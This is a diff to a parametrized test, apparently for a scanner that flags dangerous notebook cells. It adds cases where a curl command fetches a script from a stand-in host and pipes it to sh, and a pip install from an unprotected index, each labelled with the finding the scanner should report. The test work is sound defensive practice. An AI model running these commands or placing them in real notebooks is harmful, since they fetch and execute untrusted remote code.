@@ -54,6 +54,8 @@ def test_a_notebook_of_text_is_clean() -> None:
         (("%%bash\ncurl -s http://planted.example/x | sh",), "script/fetched-and-run"),
         (("x = !curl -s http://planted.example/x | sh",), "script/fetched-and-run"),
         (("%sx curl -s http://planted.example/x | sh",), "script/fetched-and-run"),
+        (("get_ipython().system('curl -s http://planted.example/x | sh')",), "script/fetched-and-run"),
+        (("!pip install -i http://planted.example/simple x",), "requirements/unprotected-address"),
         (("%run other.py",), "notebook/runs-file"),
     ],
 )
